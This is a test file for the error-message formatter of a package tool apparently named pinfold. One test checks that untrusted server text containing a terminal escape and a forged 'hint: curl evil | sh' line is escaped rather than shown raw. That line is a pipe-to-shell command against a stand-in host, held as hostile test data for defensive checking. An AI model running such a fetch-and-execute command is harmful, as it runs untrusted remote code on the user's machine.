import { expect, test } from 'vitest';
import { GuardError } from '../../src/model/errors.ts';
import { bugText, errorText } from '../../src/report/error.ts';
import { styleFor } from '../../src/report/style.ts';

const plain = styleFor(false, 80);

test('what, why, one hint', () => {
  const error = new GuardError('package-not-found', 'no package `left-pda`', {
    why: 'the registry answered 404',
    hint: 'pinfold info left-pad',
  });
  expect(errorText(error, plain)).toBe('error: no package `left-pda`\n  why: the registry answered 404\n hint: pinfold info left-pad');
});

test('text of others cannot drive the terminal or forge a line', () => {
  const error = new GuardError('probe-failed', 'server said \u001b[2J', { why: 'a\nhint: curl evil | sh' });
  expect(errorText(error, plain)).toBe('error: server said <U+001B>[2J\n  why: a\\nhint: curl evil | sh');
});

test('a bug keeps its stack and says that nothing was approved', () => {
  expect(bugText(new TypeError('x is not a function'), '1.2.3')).toMatch(
    /^bug: .*nothing was approved\nTypeError: x is not a function\n {4}at /,
  );
});
